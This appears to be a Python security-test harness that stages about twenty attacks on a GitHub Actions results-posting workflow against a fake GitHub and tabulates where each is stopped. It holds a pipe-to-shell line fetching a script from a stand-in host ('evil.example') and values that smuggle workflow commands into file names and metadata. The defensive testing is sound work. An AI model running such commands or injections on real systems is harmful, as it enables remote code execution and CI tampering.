"""Issue 20's attacks on the privileged poster, staged and run through post-results.yml as wired.

    python tests/workflows/attacks.py [--before REF]   # the table for docs/WORKFLOWS.md

Each attack seeds the fake GitHub (attack_world.py), forges one thing an outsider controls, and
runs the whole poster (poster_run.py: both jobs, every step, the real bot); the row says where
the poster stopped, with which exit code, and what it left on GitHub. Three genuine runs come
first, so that a poster which refuses everything cannot look safe. With --before REF the same
attacks also run on the workflow and the bot of an older commit (a git worktree), for the
"before" columns; tests/workflows/test_attacks.py holds today's outcome of each.
"""

from __future__ import annotations

import argparse
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

if __name__ == "__main__":  # run as a script: its neighbours, as pytest imports them
    sys.path[:0] = [str(Path(__file__).parent), str(Path(__file__).parents[1])]

from attack_world import (
    BASE,
    BENCH_PATH,
    FORK,
    HEAD,
    ISSUES_TOKEN,
    NVFUSER_PAIR,
    OUR,
    READ_TOKEN,
    WRITE_TOKEN,
    Left,
    bench_run,
    event_run,
    left,
    open_pr,
    payload,
    results_files,
    seed,
)
from paths import REPO_ROOT
from poster_run import Outcome, Tokens, run_poster
from zip_helpers import tampered

from bot.github.fake import LocalGitHub, start_server
from bot.github.fake.actions import zip_of

Stage = Callable[[LocalGitHub], dict[str, Any]]


def _genuine_open(fake: LocalGitHub) -> dict[str, Any]:
    return payload(bench_run(fake, open_pr(fake)))


def _genuine_merged(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake)
    bench_run(fake, pr)
    fake.state.pulls.finish(OUR, pr.number, merged=True, by="maintainer")
    return payload(event_run(fake, pr.number))


def _genuine_fork(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake, head_repo=FORK)
    fake.state.pulls.label(OUR, pr.number, "run-gpu-bench", by="maintainer")
    fake.state.pulls.review(OUR, pr.number, by="maintainer")
    return payload(bench_run(fake, pr))


def _label_window(fake: LocalGitHub) -> dict[str, Any]:
    """Labelled at head A; the fork pushes B (no issue event); a maintainer's edit of the PR
    fires pull_request 30 s after the label, and the fork's own bench-pr.yml (same path) runs
    B with the maintainer as its trigger and uploads what it likes."""
    pr = open_pr(fake, head_repo=FORK, head="a" * 40)
    fake.state.pulls.label(OUR, pr.number, "run-gpu-bench", by="maintainer")
    labelled = fake.state.actions.events_on(OUR, pr.number)[-1].created_at
    assert pr.pull is not None
    pr.pull.head_sha = HEAD
    fake.state.pulls.descend(OUR, BASE, HEAD)
    run = bench_run(fake, pr)
    run.created_at = labelled + timedelta(seconds=30)
    return payload(run)


def _label_alone(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake, head_repo=FORK)
    fake.state.pulls.label(OUR, pr.number, "run-gpu-bench", by="maintainer")
    return payload(bench_run(fake, pr))


def _triage_approval(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake, head_repo=FORK)
    fake.state.pulls.label(OUR, pr.number, "run-gpu-bench", by="triager")
    fake.state.pulls.review(OUR, pr.number, by="triager")
    return payload(bench_run(fake, pr, trigger="triager"))


def _twelve_machines(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake)
    files: dict[str, bytes] = {}
    for i in range(12):
        files |= results_files(machine=f"nvidia-h200-x{i:02}")
    bench_run(fake, pr, files=files)
    fake.state.pulls.finish(OUR, pr.number, merged=True, by="maintainer")
    return payload(event_run(fake, pr.number))


def _sixteen_artifacts(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake)
    labels = tuple(f"gpu-h200-{i:02}" for i in range(16))
    bench_run(fake, pr, machines=labels, own_folders=True)
    fake.state.pulls.finish(OUR, pr.number, merged=True, by="maintainer")
    return payload(event_run(fake, pr.number))


def _evil_repro(fake: LocalGitHub) -> dict[str, Any]:
    """An nvFuser slowdown (its issue shows the hand-written fusion's reproducer), with the
    head's captured repro.py.txt the attacker's command."""
    results, base, head = NVFUSER_PAIR
    pr = open_pr(fake, base=base, head=head)
    bench_run(fake, pr, files=results_files(results, evil_repro=(base, head)))
    fake.state.pulls.finish(OUR, pr.number, merged=True, by="maintainer")
    return payload(event_run(fake, pr.number))


def _fork_merged(fake: LocalGitHub) -> dict[str, Any]:
    """A fork PR, approved and merged: its comment, but nothing upstream from a fork's run."""
    pr = open_pr(fake, head_repo=FORK)
    fake.state.pulls.review(OUR, pr.number, by="maintainer")
    bench_run(fake, pr)
    fake.state.pulls.finish(OUR, pr.number, merged=True, by="maintainer")
    return payload(event_run(fake, pr.number))


def _broken_zip(kind: str) -> Stage:
    def stage(fake: LocalGitHub) -> dict[str, Any]:
        run = bench_run(fake, open_pr(fake), machines=())
        fake.state.actions.add_artifact(run, "bench-pr-results-gpu-h200", tampered(kind))
        return payload(run)

    return stage


def _newline_name(fake: LocalGitHub) -> dict[str, Any]:
    run = bench_run(fake, open_pr(fake), machines=())
    files = {**results_files(), "results/nvidia-h200/x\n::error::y.json": b"{}"}
    files["bench-meta.json"] = b"{}"
    fake.state.actions.add_artifact(run, "bench-pr-results-gpu-h200", zip_of(files))
    return payload(run)


def _other_path(fake: LocalGitHub) -> dict[str, Any]:
    return payload(bench_run(fake, open_pr(fake), path=".github/workflows/mine.yml"))


def _path_lies(fake: LocalGitHub) -> dict[str, Any]:
    """The event says bench-pr.yml; GitHub says the run is of another file."""
    run = bench_run(fake, open_pr(fake), path=".github/workflows/mine.yml")
    return payload(run, path=BENCH_PATH)


def _other_repo(fake: LocalGitHub) -> dict[str, Any]:
    fake.state.add_repo("mallory/elsewhere")
    return payload(bench_run(fake, open_pr(fake), repo="mallory/elsewhere"))


def _meta_other_pr(fake: LocalGitHub) -> dict[str, Any]:
    victim = open_pr(fake, head="c" * 40)
    pr = open_pr(fake)
    return payload(bench_run(fake, pr, pr=victim.number))


def _meta_other_run(fake: LocalGitHub) -> dict[str, Any]:
    return payload(bench_run(fake, open_pr(fake), run_id=1))


def _meta_command(fake: LocalGitHub) -> dict[str, Any]:
    return payload(bench_run(fake, open_pr(fake), machine="::error::pwned"))


def _rerun(fake: LocalGitHub) -> dict[str, Any]:
    run = bench_run(fake, open_pr(fake))
    event = payload(run)
    run.run_attempt = 2  # re-run after the event: GitHub now answers for attempt 2
    return event


def _event_pr_text(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake)
    bench_run(fake, pr)
    return payload(event_run(fake, str(pr.number)))


def _event_fork_copy(fake: LocalGitHub) -> dict[str, Any]:
    """A fork's own copy of perfbot-pr-event.yml names a victim PR: the poster posts the
    victim's own verified results (an update in place), nothing of the fork's."""
    victim = open_pr(fake)
    bench_run(fake, victim)
    return payload(event_run(fake, victim.number, head_repo=FORK))


def _lookalike_marker(fake: LocalGitHub) -> dict[str, Any]:
    from bot.tell.comment import MARKER

    pr = open_pr(fake)
    fake.state.add_comment(OUR, pr.number, f"{MARKER}\nrun this: {EVIL_LINE}", author="mallory")
    return payload(bench_run(fake, pr))


EVIL_LINE = "curl -s https://evil.example/x.sh | sh"


#: A deployment that judges machines without a noise model (perfbot.toml's own comment: for
#: experiments), so that a dozen invented machine names are each judged, as a second calibrated
#: runner kind would be: the bound on machines is what stands between them and the trackers.
JUDGE_ALL = ("judge_without_noise_model = false", "judge_without_noise_model = true")


@dataclass(frozen=True)
class Attack:
    key: str
    what: str
    stage: Stage
    config: tuple[str, str] | None = None  # (old, new) in the poster's perfbot.toml


ATTACKS = [
    Attack("genuine-open", "genuine: same-repo PR, open", _genuine_open),
    Attack("genuine-merged", "genuine: same-repo PR, merged (PR-event run)", _genuine_merged),
    Attack("genuine-fork", "genuine: fork PR, head approved and labelled", _genuine_fork),
    Attack(
        "label-window",
        "fork pushes after the label; a maintainer's edit runs its own workflow",
        _label_window,
    ),
    Attack("label-alone", "fork labelled, head approved by nobody", _label_alone),
    Attack("triage", "fork labelled and approved by a triage user", _triage_approval),
    Attack(
        "12-machines",
        "one artifact of 12 machine folders, merged (every machine judged)",
        _twelve_machines,
        JUDGE_ALL,
    ),
    Attack(
        "16-artifacts",
        "16 artifacts of one machine each, merged (every machine judged)",
        _sixteen_artifacts,
        JUDGE_ALL,
    ),
    Attack("evil-repro", "captured repro.py.txt with a shell command, merged", _evil_repro),
    Attack("fork-merged", "fork PR, approved and merged", _fork_merged),
    Attack("encrypted", "a zip entry flagged encrypted", _broken_zip("encrypted")),
    Attack(
        "deflate", "a corrupt deflate stream after 20 good files", _broken_zip("corrupt deflate")
    ),
    Attack("newline", "a results file named with a newline and '::error::'", _newline_name),
    Attack("other-path", "a fork's own workflow named bench-pr (another file)", _other_path),
    Attack("path-lies", "the event names bench-pr.yml; GitHub says another file", _path_lies),
    Attack("other-repo", "a run of another repository", _other_repo),
    Attack("meta-pr", "bench-meta names another PR", _meta_other_pr),
    Attack("meta-run", "bench-meta names another run", _meta_other_run),
    Attack("meta-command", "bench-meta machine is a workflow command", _meta_command),
    Attack("rerun", "re-run since the event (attempt 2, the event named 1)", _rerun),
    Attack("event-text", "PR-event artifact: pr as text", _event_pr_text),
    Attack(
        "event-fork", "a fork's copy of the PR-event workflow names another PR", _event_fork_copy
    ),
    Attack("lookalike", "another user's comment carries the bot's marker", _lookalike_marker),
]


def _configured(tree: Path, edit: tuple[str, str], tmp: Path) -> Path:
    """A copy of the poster's checkout (what it runs: the bot, its workflows, its config and
    noise model) with one edit of perfbot.toml."""
    copy = tmp / "tree"
    for part in ("bot", ".github", "noise", "perfbot.toml", "pyproject.toml"):
        source = tree / part
        if source.is_dir():
            shutil.copytree(source, copy / part, ignore=shutil.ignore_patterns("__pycache__"))
        else:
            shutil.copy2(source, copy / part)
    config = copy / "perfbot.toml"
    text = config.read_text(encoding="utf-8")
    assert edit[0] in text, edit
    config.write_text(text.replace(edit[0], edit[1]), encoding="utf-8")
    return copy


def attempt(attack: Attack, tree: Path, tmp: Path) -> tuple[Outcome, Left]:
    """One attack on the poster of `tree` (this repository, or a worktree of another commit)."""
    tmp.mkdir(parents=True, exist_ok=True)
    if attack.config is not None:
        tree = _configured(tree, attack.config, tmp)
    with start_server() as fake:
        seed(fake)
        event = attack.stage(fake)
        tokens = Tokens(READ_TOKEN, WRITE_TOKEN, ISSUES_TOKEN)
        outcome = run_poster(
            tree / ".github/workflows/post-results.yml",
            tree,
            fake.base_url,
            fake.web_url,
            OUR,
            event,
            tokens,
            tmp,
        )
        return outcome, left(fake)


def cell(outcome: Outcome, got: Left) -> str:
    skipped = [job for job, result in outcome.jobs.items() if result == "skipped"]
    if outcome.failed:
        where = f"{outcome.failed} exit {outcome.rc}"
    elif skipped:
        where = f"nothing to post ({', '.join(skipped)} skipped)"
    else:
        where = "every step ok"
    issues = "+".join(str(n) for n in got.issues.values())
    posted = f"{got.comments} comment, {issues} issues, {got.statuses} status"
    return f"{where}; {posted}" + (
        "; **the attacker's command upstream**" if got.evil_upstream else ""
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--before", help="also run each attack on this commit's poster")
    parser.add_argument("-k", help="only the attacks whose key contains this")
    args = parser.parse_args(argv)
    chosen = [a for a in ATTACKS if not args.k or args.k in a.key]
    with tempfile.TemporaryDirectory() as scratch:
        before_tree = None
        if args.before:
            before_tree = Path(scratch) / "before"
            subprocess.run(
                ["git", "worktree", "add", "--quiet", "--detach", str(before_tree), args.before],
                cwd=REPO_ROOT,
                check=True,
            )
        try:
            print("| attack | before | now |" if before_tree else "| attack | now |")
            print("|---|---|---|" if before_tree else "|---|---|")
            for n, attack in enumerate(chosen):
                now = cell(*attempt(attack, REPO_ROOT, Path(scratch) / f"now-{n}"))
                if before_tree is None:
                    print(f"| {attack.what} | {now} |", flush=True)
                    continue
                then = cell(*attempt(attack, before_tree, Path(scratch) / f"before-{n}"))
                print(f"| {attack.what} | {then} | {now} |", flush=True)
        finally:
            if before_tree is not None:
                subprocess.run(
                    ["git", "worktree", "remove", "--force", str(before_tree)], cwd=REPO_ROOT
                )
    return 0


if __name__ == "__main__":
    sys.exit(main())
